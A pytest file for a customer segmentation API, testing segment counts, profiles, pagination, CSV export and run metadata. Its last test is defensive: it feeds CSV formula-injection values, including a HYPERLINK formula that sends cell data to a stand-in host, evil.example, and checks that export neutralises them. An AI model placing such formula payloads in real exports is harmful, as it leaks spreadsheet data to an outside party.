"""Scoring runs and segment lists over HTTP, on real databases and Redis."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from services.pipeline.retrain import retrain_now
from shared.extensions import db
from shared.models import TierHistory
from tests.factories import AS_OF, add_orders


@pytest.fixture
def client(segmentation_app):
    return segmentation_app.test_client()


@pytest.fixture
def ops(make_key):
    return make_key("segments:read", "segments:export")


def test_segment_catalogue_counts_every_customer(client, ops, shop):
    body = client.get("/v1/segments", headers=ops).json
    assert body["run_id"] == shop.run_id
    assert body["customers"] == 120
    counts = {
        item["dimension"]: {value["value"]: value["members"] for value in item["values"]}
        for item in body["dimensions"]
    }
    # The known answers for the factory shop (seed 3, as of 2026-11-01), the same on SQLite and PostgreSQL.
    # Every fourth customer stopped buying 300-700 days ago; with F counted over 365 days they have F=1 or 2 and
    # R=1 or 2: Lost (R1 x F1), Hibernating or At Risk. No factory customer is a community member.
    assert counts == {
        "rfm_segment": {
            "Champions": 13, "Loyal": 19, "Potential Loyalist": 20, "New": 1, "Promising": 4, "Need Attention": 4,
            "About to Sleep": 11, "At Risk": 8, "Can't Lose Them": 0, "Hibernating": 18, "Lost": 22,
        },
        "tier": {"regular": 47, "silver": 65, "gold": 8, "black": 0},
        "lifecycle": {"new": 1, "first_order_only": 8, "active": 67, "dormant": 36, "churned": 8, "prospect": 0},
        "community_layer": {"potential": 0, "active": 0, "high_value": 0},
    }


def test_customer_profile(client, ops, shop):
    body = client.get("/v1/customers/c0001", headers=ops).json
    assert body["run_id"] == shop.run_id
    # c0001 bought once, 28.46 days before AS_OF: phone + case + charger (699 + 29 + 39 = 767).
    # R5 x F1 is "New"; one paid order within 30 days is lifecycle new; 767 >= 500 makes silver (spend OR F >= 3),
    # 2,000 - 767 to gold; one purchase day gives BG/NBD P(alive) exactly 1.
    assert body["rfm"] == {"recency_days": pytest.approx(28.458333, abs=1e-5), "frequency": 1, "monetary": 767.0,
                           "r": 5, "f": 1, "m": 3, "segment": "New"}
    assert body["tier"] == {"name": "silver", "since": "2026-11-01T12:00:00Z", "spend_to_next_tier": 1233.0}
    assert body["lifecycle"] == "new"
    assert body["community_layer"] is None
    assert body["clv"] == {"p_alive": 1.0, "expected_orders_90d": pytest.approx(0.679733, abs=1e-5),
                           "expected_value_365d": pytest.approx(706.6487, abs=1e-3)}
    assert client.get("/v1/customers/nobody", headers=ops).status_code == 404


def test_member_pages_walk_the_whole_segment_from_one_run(client, ops, shop, segmentation_app):
    catalogue = client.get("/v1/segments", headers=ops).json
    tiers = {v["value"]: v["members"] for d in catalogue["dimensions"] if d["dimension"] == "tier" for v in d["values"]}
    seen = []
    response = client.get("/v1/segments/tier/silver/members?limit=7", headers=ops).json
    first_cursor = response["next_cursor"]
    seen.extend(item["customer_id"] for item in response["items"])
    # A new run publishes while the reader is mid-list: the cursor keeps reading the old run.
    add_orders([{"order_id": "late-1", "customer_id": "c0001", "placed_at": AS_OF, "skus": ["PHN-1"]}])
    second = retrain_now(segmentation_app.config, as_of=AS_OF)
    assert second.status == "published"
    cursor = first_cursor
    while cursor:
        response = client.get(f"/v1/segments/tier/silver/members?limit=7&cursor={cursor}", headers=ops).json
        assert response["run_id"] == shop.run_id
        seen.extend(item["customer_id"] for item in response["items"])
        cursor = response["next_cursor"]
    assert tiers["silver"] == 65
    assert len(seen) == len(set(seen)) == tiers["silver"]
    assert seen == sorted(seen)


def test_unknown_dimension_and_value_list_the_valid_ones(client, ops, shop):
    response = client.get("/v1/segments/colour/blue/members", headers=ops)
    assert response.status_code == 404
    assert "tier" in response.json["error"]["details"]["dimension"]
    response = client.get("/v1/segments/tier/platinum/members", headers=ops)
    assert response.status_code == 404
    assert response.json["error"]["details"]["valid_values"] == ["regular", "silver", "gold", "black"]


def test_malformed_and_foreign_cursors_are_400(client, ops, shop):
    response = client.get("/v1/segments/tier/silver/members?cursor=!!!not-base64", headers=ops)
    assert response.status_code == 400
    assert response.json["error"]["code"] == "bad_cursor"
    page = client.get("/v1/segments/tier/silver/members?limit=1", headers=ops).json
    response = client.get(f"/v1/segments/tier/regular/members?cursor={page['next_cursor']}", headers=ops)
    assert response.status_code == 400


def test_stale_cursor_after_its_run_is_pruned(client, ops, shop, segmentation_app):
    page = client.get("/v1/segments/tier/silver/members?limit=1", headers=ops).json
    for _ in range(4):
        assert retrain_now(segmentation_app.config, as_of=AS_OF).status == "published"
    response = client.get(f"/v1/segments/tier/silver/members?cursor={page['next_cursor']}", headers=ops)
    assert response.status_code == 400
    assert "no longer kept" in response.json["error"]["message"]


def test_csv_export_streams_the_whole_segment(client, ops, shop):
    catalogue = client.get("/v1/segments", headers=ops).json
    regular = next(v["members"] for d in catalogue["dimensions"] if d["dimension"] == "tier"
                   for v in d["values"] if v["value"] == "regular")
    response = client.get("/v1/segments/tier/regular/members.csv", headers=ops)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert regular == 47
    assert len(rows) == regular
    assert all(row["tier"] == "regular" for row in rows)


def test_csv_export_needs_the_export_scope(client, make_key, shop):
    reader_only = make_key("segments:read")
    assert client.get("/v1/segments/tier/regular/members.csv", headers=reader_only).status_code == 403


def test_dropped_csv_download_logs_and_releases_its_connection(client, ops, shop, caplog):
    response = client.get("/v1/segments/tier/regular/members.csv", headers=ops, buffered=False)
    iterator = iter(response.response)
    next(iterator)
    with caplog.at_level("WARNING", logger="segrec.segments"):
        response.close()
    assert any("dropped by the client" in record.message for record in caplog.records)
    if db.dialect == "postgresql":
        assert db.engine.pool.checkedout() == 0


def test_audience_query_and_bad_filters(client, ops, shop):
    body = client.post("/v1/segments/query", json={
        "filters": {"tier": ["silver", "gold"], "lifecycle": ["active", "dormant"], "monetary": {"gte": 100}},
        "limit": 5,
    }, headers=ops).json
    assert body["count"] == 71
    assert [item["customer_id"] for item in body["items"]] == ["c0000", "c0002", "c0003", "c0005", "c0007"]
    for item in body["items"]:
        assert item["tier"] in {"silver", "gold"} and item["lifecycle"] in {"active", "dormant"}
        assert item["monetary"] >= 100
    impossible = client.post("/v1/segments/query", json={"filters": {"monetary": {"gte": 500, "lte": 100}}},
                             headers=ops)
    assert impossible.status_code == 422 and "monetary" in impossible.json["error"]["details"]
    unknown = client.post("/v1/segments/query", json={"filters": {"shoe_size": ["42"]}}, headers=ops)
    assert unknown.status_code == 422 and "shoe_size" in unknown.json["error"]["details"]


def test_transitions_between_runs(client, ops, shop, segmentation_app):
    second = retrain_now(segmentation_app.config, as_of=AS_OF.replace(year=2027))
    assert second.status == "published"
    body = client.get(f"/v1/segments/transitions?dimension=lifecycle&from_run={shop.run_id}&to_run={second.run_id}",
                      headers=ops).json
    # A year of silence moves almost everyone out of active: most customers first.
    assert body["transitions"] == [
        {"from": "active", "to": "dormant", "customers": 38},
        {"from": "dormant", "to": "churned", "customers": 36},
        {"from": "active", "to": "churned", "customers": 26},
        {"from": "churned", "to": "churned", "customers": 8},
        {"from": "first_order_only", "to": "churned", "customers": 8},
        {"from": "active", "to": "active", "customers": 3},
        {"from": "new", "to": "dormant", "customers": 1},
    ]
    assert sum(move["customers"] for move in body["transitions"]) == 120


def test_all_refunded_customer_and_single_customer_shop(client, ops, segmentation_app):
    add_orders([{"order_id": "r1", "customer_id": "solo", "placed_at": AS_OF, "skus": ["PHN-1"],
                 "status": "refunded"}])
    run = retrain_now(segmentation_app.config, as_of=AS_OF)
    assert run.status == "published"
    body = client.get("/v1/customers/solo", headers=ops).json
    assert body["rfm"]["frequency"] == 0 and body["rfm"]["segment"] == "Lost"
    assert body["lifecycle"] == "prospect"


def test_tier_history_records_first_assignment(shop):
    with db.session() as session:
        assert session.execute(select(func.count()).select_from(TierHistory)).scalar_one() == 120


def test_runs_endpoints(client, ops, make_key, shop):
    listing = client.get("/v1/runs", headers=ops).json["items"]
    assert listing[0]["run_id"] == shop.run_id and listing[0]["current"] is True
    detail = client.get(f"/v1/runs/{shop.run_id}", headers=ops).json
    # In the order they started: the for-you fan-out starts before its shards.
    assert [step["name"] for step in detail["steps"]] == [
        "snapshot", "fit_customer_models", "train_lines", "train_lines_001", "score_customers", "train_models",
        "train_bundles", "train_for_you", "train_for_you_001", "publish"]
    # Ten products: any top 10 holds the hidden item, so HR@10 is 1 for both; the ranking (NDCG) tells them apart.
    assert detail["metrics"]["recommendations"]["evaluation"] == {
        "cases": 77, "hr_at_10": 1.0, "ndcg_at_10": 0.9097, "coverage_at_10": 1.0,
        "popularity_hr_at_10": 1.0, "popularity_ndcg_at_10": 0.5986, "hr_lift_over_popularity": 0.0,
        "model": {"name": "co_purchase", "params": {"beta": None}},
    }
    # A shop this small keeps the default cart model, and the run says why.
    selection = detail["metrics"]["model_selection"]
    assert selection["chosen"] == {"name": "co_purchase", "params": {"beta": None}, "hr_at_10": None,
                                   "ndcg_at_10": None}
    assert selection["candidates"] == []
    assert selection["reason"] == (f"kept the default model: {selection['cases']} validation cases, "
                                   "fewer than the 200 a comparison needs")
    assert all(step["started_at"] and step["finished_at"] for step in detail["steps"])
    assert client.post("/v1/runs", headers=ops).status_code == 403


def test_csv_export_neutralises_formula_cells(client, ops, segmentation_app):
    from tests.factories import add_products

    add_products()
    formula_ids = ["=1+1", "+SUM(1+1)", "@SUM(1,1)", "-2+3", '=HYPERLINK("http://evil.example/?d="&A2,"x")']
    add_orders([{"order_id": f"f{index}", "customer_id": customer_id, "placed_at": AS_OF, "skus": ["PHN-1"]}
                for index, customer_id in enumerate([*formula_ids, "plain-1"])])
    assert retrain_now(segmentation_app.config, as_of=AS_OF).status == "published"
    catalogue = client.get("/v1/segments", headers=ops).json
    tier = next(d for d in catalogue["dimensions"] if d["dimension"] == "tier")
    exported = []
    for value in tier["values"]:
        response = client.get(f"/v1/segments/tier/{value['value']}/members.csv", headers=ops)
        exported.extend(row["customer_id"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert sorted(exported) == sorted(["'" + customer_id for customer_id in formula_ids] + ["plain-1"])
